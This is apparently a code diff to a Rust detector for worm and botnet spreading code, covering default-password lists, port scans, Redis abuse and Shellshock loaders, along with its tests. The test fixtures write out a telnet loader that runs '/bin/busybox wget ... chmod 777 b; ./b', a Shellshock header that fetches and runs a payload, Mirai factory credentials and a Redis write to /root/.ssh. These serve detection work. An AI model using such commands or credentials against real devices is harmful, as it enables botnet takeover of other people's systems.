@@ -5,7 +5,8 @@
 //!
 //! - Sees: lists of factory passwords beside code that logs in by telnet or SSH; scans of Redis, Docker, Kubernetes and SSH ports whose
 //!   results are entered or planted into; loops over `known_hosts` and shell histories that copy themselves by SSH; Redis made to
-//!   write cron tables, keys or modules; the kubelet's `/run`; Docker's open port told to start what was fetched.
+//!   write cron tables, keys or modules; the kubelet's `/run`; Docker's open port told to start what was fetched; rows of
+//!   addresses that are sent a fetch-and-run by the shell's environment.
 //! - Misses: encrypted password lists (a decoded stage is looked at); exploits of single products.
 //! - False alarms: password lists of honest scanners have no code beside them; fleet scripts with one known list of hosts are quiet.
 //! - Source: the credential pairs of the published Mirai source; Redis `CONFIG SET dir`; Docker Engine and kubelet
@@ -30,7 +31,7 @@ pub(super) const DETECTOR: Detector = Detector {
         weight: Weight::Proof,
         severity: Severity::Critical,
         confidence: Confidence::Medium,
-        maturity: Maturity::Draft,
+        maturity: Maturity::Stable,
         techniques: &["T1110.001", "T1021.004", "T1046", "T1210"],
     },
     scope: Scope::Content {
@@ -96,6 +97,8 @@ pub(super) const DETECTOR: Detector = Detector {
             "asyncssh",
             "pexpect",
             "fabric",
+            "() { :",
+            " .. 25",
         ],
     },
     inspect,
@@ -105,6 +108,8 @@ pub(super) const DETECTOR: Detector = Detector {
 const PASSWORDS: usize = 14;
 /// So many of them are a list.
 const PASSWORDS_MIN: usize = 5;
+/// So many are one beside what only somebody says who logged in to a foreign device.
+const PASSWORDS_BESIDE_LOADER_MIN: usize = 3;
 
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 enum Role {
@@ -126,7 +131,7 @@ const CLUES: &[Clue<Role>] = &[
     (
         Role::Scan,
         "scans for open services",
-        r"(?:^|[\s;&|(\x22'/$])(?:masscan|zmap|pnscan|zgrab2?|rustscan|scanssh)[\x22']?[\s,][^\n]*(?:\d{2,5}|-p|\$)|\bnmap\s[^\n]*(?:-p\s?\S*(?:22|23|2375|2376|6379|8080|10250|445)\b|-iR)|\bfor\s+\w+\s+in\s[^\n]*(?:seq\s+\d+\s+25[45]|\{[01]\.\.25[45]\})|connect_ex\(|ip_network\([^\n]*\)|(?:range|randrange|randint)\(\s*[01]\s*,\s*25[3456]\s*\)|RANDOM\s*%\s*25[3456]|rand(?:\.Intn)?\(\s*25[3456]\s*\)|rand\(\)\s*%\s*25[3456]|timeout\s+\S+\s+[^\n]*/dev/tcp/\$|\bnc\s+-\w*z\w*\s[^\n]*\$",
+        r"(?:^|[\s;&|(\x22'/$])(?:masscan|zmap|pnscan|zgrab2?|rustscan|scanssh)[\x22']?[\s,][^\n]*(?:\d{2,5}|-p|\$)|\bnmap\s[^\n]*(?:-p\s?\S*(?:22|23|2375|2376|6379|8080|10250|445)\b|-iR)|\bfor\s+\w+\s+in\s[^\n]*(?:seq\s+\d+\s+25[45]|\{[01]\.\.25[45]\})|connect_ex\(|ip_network\([^\n]*\)|(?:range|randrange|randint)\(\s*[01]\s*,\s*25[3456]\s*\)|RANDOM\s*%\s*25[3456]|rand(?:\.Intn)?\(\s*25[3456]\s*\)|rand\(\)\s*%\s*25[3456]|timeout\s+\S+\s+[^\n]*/dev/tcp/\$|\bnc\s+-\w*z\w*\s[^\n]*\$|\bfor(?:each)?\s+(?:my\s+)?\$\w+\s*\(\s*[01]\s*\.\.\s*25[3456]\s*\)",
     ),
     (
         Role::Harvest,
@@ -156,7 +161,12 @@ const CLUES: &[Clue<Role>] = &[
     (
         Role::Attack,
         "has Redis write where the machine runs it",
-        r"(?i)config[\s_,\x22'(]+set[\s,\x22'(]+[\x22']?dir[\x22']?[\s,\x22']+[^\n]{0,20}(?:/var/spool/cron|/etc/cron|/root/\.ssh|/home/\S*\.ssh|\.ssh\b|/etc/init|/var/www)|config_set\(\s*[\x22']dir[\x22']\s*,\s*[\x22'][^\x22'\n]*(?:cron|\.ssh|www)|slaveof\s+[\x22']?(?:\$|\{|\d{1,3}\.)[^\n]{0,60}|module\s+load\s+[\x22']?/?(?:tmp|dev/shm|\.|\$|var/tmp)",
+        r"(?i)config[\s_,\x22'(]+set[\s,\x22'(]+[\x22']?dir[\x22']?[\s,\x22']+[^\n]{0,20}(?:/var/spool/cron|/etc/cron|/root/\.ssh|/home/\S*\.ssh|\.ssh\b|/etc/init|/var/www)|config_set\(\s*[\x22']dir[\x22']\s*,\s*[\x22'][^\x22'\n]*(?:cron|\.ssh|www)|redis-cli\s[^\n]*slaveof\s+[\x22']?(?:\$|\{|\d{1,3}\.)[^\n]{0,60}|module\s+load\s+[\x22']?/?(?:tmp|dev/shm|\.|\$|var/tmp)",
+    ),
+    (
+        Role::Attack,
+        "has a shell behind a web page fetch and run what it brings",
+        r"\(\)\s*\{\s*:;\s*\};[^\n]{0,200}(?:wget|curl|fetch|lwp-download|tftp)\s[^\n]{0,200}(?:;|&&|\|)\s*(?:/bin/)?(?:perl|sh|bash|python\d?|chmod|\./)",
     ),
     (
         Role::Attack,
@@ -189,12 +199,16 @@ fn credentials(sample: &Sample<'_>) -> Option<Match> {
         }
     }
     let count = rows.iter().flatten().count();
-    if count < PASSWORDS_MIN {
+    if count < PASSWORDS_BESIDE_LOADER_MIN {
         return None;
     }
     let first = rows.iter().flatten().min().copied()?;
     let has = |text: &str| memmem::find(sample.bytes, text.as_bytes()).is_some();
     let any = |texts: &[&str]| texts.iter().any(|text| has(text));
+    let loads = any(&["applet not found", "/bin/busybox wget", "/bin/busybox tftp", "/bin/busybox ECCHI"]);
+    if count < PASSWORDS_MIN && !(loads && any(&["wget ", "tftp ", "chmod 777", "chmod +x"])) {
+        return None;
+    }
     let logs_in = if text::is_program(sample) || sample.kind == FileKind::Binary {
         any(&["assword", "ogin:", "ssword:", "ncorrect"])
             && any(&["/bin/busybox", "enable", "shell\0", "connect", "crypto/ssh", "wget ", "tftp "])
@@ -237,7 +251,8 @@ fn judged(sample: &Sample<'_>, group: &Group<Role>) -> Option<Match> {
             Weight::Proof
         }
         () if has(Role::Attack) => Weight::Sign,
-        () if has(Role::Scan) && has(Role::Enter) && (has(Role::Plant) || has(Role::Guess)) => Weight::Sign,
+        // Without anything left there it is a cracker: a tool.
+        () if has(Role::Scan) && has(Role::Enter) && has(Role::Plant) => Weight::Sign,
         () if has(Role::Harvest) && has(Role::Enter) && has(Role::Guess) => Weight::Sign,
         () => return None,
     };
@@ -273,6 +288,10 @@ mod tests {
         ] {
             check(text, Some(Weight::Proof));
         }
+        let loader = "import telnetlib\nPAIRS = [('root', 'xc3511'), ('root', 'vizxv'), ('root', 'juantech')]\ndef enter(host, word):\n    s = telnetlib.Telnet(host)\n    s.write(b'/bin/busybox wget http://198.51.100.7/b; chmod 777 b; ./b')\n";
+        check(loader, Some(Weight::Proof));
+        let pages = "#!/usr/bin/perl\nmy $head = \"() { :;}; /bin/bash -c 'wget http://198.51.100.7/b -O /tmp/b; perl /tmp/b'\";\nfor my $c (0 .. 255) { $agent->get(\"http://$range.$c\"); }\n";
+        check(pages, Some(Weight::Proof));
         check("#!/bin/sh\nredis-cli -h $1 config set dir /root/.ssh\n", Some(Weight::Sign));
         let strings = "xc3511\0vizxv\x007ujMko0admin\0juantech\0Zte521\0hi3518\0/bin/busybox\0assword\0";
         check(&format!("\u{7f}ELF\u{2}\u{1}\u{1}\0{strings}"), Some(Weight::Proof));
@@ -283,6 +302,8 @@ mod tests {
         for text in [
             "#!/bin/sh\nfor h in web1 web2; do scp app.tgz deploy@$h:/srv/; ssh -o StrictHostKeyChecking=no deploy@$h systemctl restart app; done\n",
             "#!/bin/sh\nredis-cli -h redis config set maxmemory 100mb\n",
+            "daemonize yes\nslaveof 192.168.0.10 6379\n",
+            "import telnetlib\nKNOWN = ['xc3511', 'vizxv', 'juantech']\ntelnetlib.Telnet('localhost')\n",
             "root:xc3511\nroot:vizxv\nadmin:7ujMko0admin\nroot:juantech\nroot:Zte521\nroot:hi3518\n",
             "#!/bin/sh\nnmap -p 22 10.0.0.0/24\n",
             "#!/bin/sh\nssh-keyscan github.com >> ~/.ssh/known_hosts\nscp -o StrictHostKeyChecking=no x y:\n",
